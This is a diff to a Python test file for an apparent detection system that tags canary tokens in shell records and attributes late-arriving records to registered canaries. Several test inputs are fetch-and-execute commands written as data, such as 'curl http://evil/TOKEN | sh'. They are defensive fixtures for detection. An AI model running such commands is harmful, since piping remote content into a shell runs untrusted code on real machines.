@@ -32,6 +32,7 @@ class Scene:
         self.estate = Estate(scope, ADDRESSES)
         self.state = State.memory()
         self.count = 0
+        self.late = 0.0
 
     def register(self, use_case, asset, token=TOKEN, *, at=NOW, life=300.0, clock=None):
         registration = CanaryRegistration(
@@ -47,11 +48,18 @@ class Scene:
 
     def arrive(self, source, host, body, *, at=NOW):
         self.count += 1
+        late = self.late
         record = Record(
-            id=f"{self.count:032x}", host=host, source=source, time=at, observed=at + 0.5, arrived=at + 1, body=body
+            id=f"{self.count:032x}",
+            host=host,
+            source=source,
+            time=at,
+            observed=at + 0.5,
+            arrived=at + 1 + late,
+            body=body,
         )
-        events = canary.mark(self.state.connection, normalise(record, self.estate), at + 2)
-        return list(detect(Batch(events=tuple(events), now=at + 2), self.rules, self.state))
+        events = canary.mark(self.state.connection, normalise(record, self.estate), at + 2 + late)
+        return list(detect(Batch(events=tuple(events), now=at + 2 + late), self.rules, self.state))
 
     def shell(self, command, host="ws-01", *, at=NOW):
         self.count += 1
@@ -215,3 +223,17 @@ def test_the_registered_clock_counts_for_nothing_else(scene):
 def test_a_token_in_the_body_counts_in_any_case(scene):
     scene.register("malware_execution", "ws-01")
     assert canaries(scene.shell(f"curl http://x/{TOKEN.upper()} | sh")) == [TOKEN]
+
+
+def test_records_of_a_canary_that_were_held_up_are_still_the_canarys(scene):
+    """The runtime was away for a quarter of an hour: what the canary did must not be answered for real."""
+    scene.register("malware_execution", "ws-01", life=60)
+    scene.late = 900.0
+    assert canaries(scene.shell(f"curl http://127.0.0.1:9/{TOKEN} | sh", at=NOW + 10)) == [TOKEN]
+    assert canaries(scene.shell(f"curl http://evil/{TOKEN} | sh", at=NOW + 61)) == [None]
+
+
+def test_but_not_for_ever(scene):
+    scene.register("malware_execution", "ws-01", life=60)
+    scene.late = canary.LATE_SECONDS + 120.0
+    assert canaries(scene.shell(f"curl http://127.0.0.1:9/{TOKEN} | sh", at=NOW + 10)) == [None]
